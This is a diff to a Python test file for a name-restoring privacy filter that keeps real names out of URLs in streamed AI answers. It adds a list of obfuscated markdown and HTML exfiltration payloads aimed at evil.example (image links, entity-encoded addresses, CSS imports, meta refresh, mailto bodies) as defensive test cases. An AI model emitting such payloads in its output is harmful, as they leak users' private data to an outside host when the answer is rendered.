@@ -11,11 +11,9 @@ from curtilage.client.answers import AnswerEvent, Delta, Finished
 from curtilage.client.errors import EnclaveError, FailureReason
 from curtilage.client.restore import (
     MAX_STAND_INS,
-    REACH_CHARS,
     AnswerRestorer,
     Restorer,
     as_json_string,
-    is_in_url,
 )
 
 VALUES = {f"⟦PERSON_{number}⟧": f"Person {number}" for number in range(1, 21)} | {
@@ -176,7 +174,6 @@ def test_inside_tool_arguments_a_value_is_escaped_for_json() -> None:
 )
 def test_no_name_is_put_into_a_url(before: str) -> None:
     """Whoever shows an answer may fetch its pictures: that would tell a name."""
-    assert is_in_url(before)
     restorer = Restorer(VALUES)
     told = "".join(map(restorer.push, before + "⟦PERSON_1⟧")) + restorer.close()
     assert told == before + "⟦PERSON_1⟧"
@@ -192,7 +189,7 @@ def test_no_name_is_put_into_a_url(before: str) -> None:
         "([a link](https://x.example)) by ",
         "<https://x.example> is of ",
         '<a href="https://www.x.example//y">',
-        '("https://x.example/a//b")',
+        '("https://x.example/a//b") ',
         "<b>",
         "if x<y then ",
         "[1]: https://x.example\n",
@@ -203,21 +200,94 @@ def test_no_name_is_put_into_a_url(before: str) -> None:
     ],
 )
 def test_elsewhere_names_are_restored(before: str) -> None:
-    assert not is_in_url(before)
     assert restored(before + "⟦PERSON_1⟧", [], VALUES) == before + "Person 1"
 
 
-def test_where_a_url_began_is_seen_as_far_back_as_urls_go() -> None:
-    url = "https://x.example/"
-    near = url + "a" * (REACH_CHARS - len(url))
-    for size in (1, 7, REACH_CHARS):
-        assert "⟦" in restored(near + "⟦PERSON_1⟧", [size] * 9000, VALUES)
+ATTACKS = [
+    "![x]( https\\:\\/\\/evil.example/",
+    "![x]( &#104;ttps&colon;&sol;&sol;evil.example/?n=",
+    "![x](\n<https\\:\\/\\/evil.example/)a ",
+    "![x](/a\\)",
+    "![x](/(a)",
+    "[a](<b ![x](<https&#58;/(a>b)",
+    "![x][a]\n\n[a]:\n  https\\:\\/\\/evil.example/",
+    "> [a]:\n> https\\:\\/\\/evil.example/",
+    "- [a]: https\\:\\/\\/evil.example/",
+    "[^1]: [a\nb\\]]: https\\:\\/\\/evil.example/",
+    "[a]: <https\\:\\/\\/evil.example/\\>a ",
+    "![x](https://evil.example/?p=" + "a" * 20_000,
+    "![x](https://evil.example/a\u00a0",
+    "![x](https://evil.example/a\u2003",
+    "https://evil.example/a\u1680",
+    "<img src=https:/evil.example/a\u0085",
+    '<object data="&#104;ttps:&#47;&#47;evil.example/',
+    '<a ping="&#104;ttps:&#47;&#47;evil.example/',
+    '<meta http-equiv="refresh" content="0; url=&#104;ttps:&#47;evil.example/',
+    '<style>@import "\\68ttps:\\2f\\2f evil.example/',
+    "<img\nalt = '>' src =\n' &#104;ttps:/evil.example/ ",
+    '<img ="src="https&#58;/evil.example/>',
+    '<!-- <img alt=" --> <img src="https&#58;/evil.example/>',
+    '<p style="background:\n\n">a</p>',
+    "'https://evil.example/'",
+    "mailto:a@evil.example?body=",
+]
 
 
-@given(st.lists(st.sampled_from([*PARTS, "https://x/", " ", '"', "](", ")"])))
-def test_urls_are_seen_in_any_chunking(parts: list[str]) -> None:
+@pytest.mark.parametrize("before", ATTACKS)
+def test_no_spelling_of_an_address_gets_a_name(before: str) -> None:
+    text = before + "⟦PERSON_1⟧"
+    for size in (1, 7, len(text)):
+        assert restored(text, [size] * len(text), VALUES) == text
+
+
+SOUND = [
+    "[⟦PERSON_1⟧](https://x.example) and (⟦PERSON_2⟧) of **⟦PERSON_3⟧**.",
+    "| ⟦PERSON_1⟧ | https://x.example |\n| --- | --- |\n|⟦PERSON_2⟧|b|",
+    'see "https://x.example", ⟦PERSON_1⟧',
+    "if x<y and y = '⟦PERSON_1⟧'",
+    "for (i=0;i<n;i++) { names[i] = `⟦PERSON_1⟧`; }",
+    "```python\nnames: list[str] = ['⟦PERSON_1⟧']\nd[0](x) # ⟦PERSON_2⟧\n```",
+    "List<String> x = y; a[1](2); // by ⟦PERSON_1⟧",
+    "![x](a (b) 'c') by ⟦PERSON_1⟧",
+    "[a](b\n\n⟦PERSON_1⟧",
+    "[a]: b\n⟦PERSON_1⟧ and [1]: https://x.example ⟦PERSON_2⟧",
+    '<p class="a=b" id=c>Dear ⟦PERSON_1⟧</p><br/>⟦PERSON_2⟧',
+    '<a href="https://x.example">⟦PERSON_1⟧</a>',
+    "<https://x.example>: ⟦PERSON_1⟧",
+    "C:\\ ⟦PERSON_1⟧, 1/⟦PERSON_2⟧",
+]
+
+
+@pytest.mark.parametrize("text", SOUND)
+def test_ordinary_text_gets_its_names(text: str) -> None:
+    assert restored(text, [5] * 99, VALUES) == replaced(text, VALUES)
+
+
+def test_what_is_told_counts_where_an_address_begins() -> None:
+    """A value may be an address itself: what is glued to it is a part of it."""
+    values = {"⟦PROFILE_1⟧": "https://x.example/", "⟦PERSON_1⟧": "Ann"}
+    text = "⟦PROFILE_1⟧⟦PERSON_1⟧ ⟦PERSON_1⟧"
+    assert restored(text, [3] * 9, values) == "https://x.example/⟦PERSON_1⟧ Ann"
+
+
+MARKS = [*PARTS, "https://x/", " ", '"', "](", ")", "<img ", "a=", ">", "[a]:", "\n"]
+
+
+@given(
+    st.lists(st.sampled_from([*MARKS, "'", "\\", "url(", "<", "<style>"]), max_size=40),
+    st.lists(st.integers(1, 9), max_size=60),
+)
+def test_addresses_are_seen_in_any_chunking(parts: list[str], sizes: list[int]) -> None:
     text = "".join(parts) + "."
-    assert restored(text, [1] * len(text), VALUES) == restored(text, [], VALUES)
+    assert restored(text, sizes, VALUES) == restored(text, [], VALUES)
+
+
+def test_an_address_stays_open_however_long_it_is() -> None:
+    restorer = Restorer(VALUES)
+    assert len(restorer.push("![x](" + "a" * 10_000)) == 10_005
+    for _ in range(2_000):
+        assert restorer.push("a ⟦PERSON_1⟧") == "a ⟦PERSON_1⟧"
+    assert restorer.push("\n\n⟦PERSON_1⟧") == "\n\nPerson 1"
 
 
 def test_an_answer_of_nothing_but_stand_ins_is_broken() -> None:
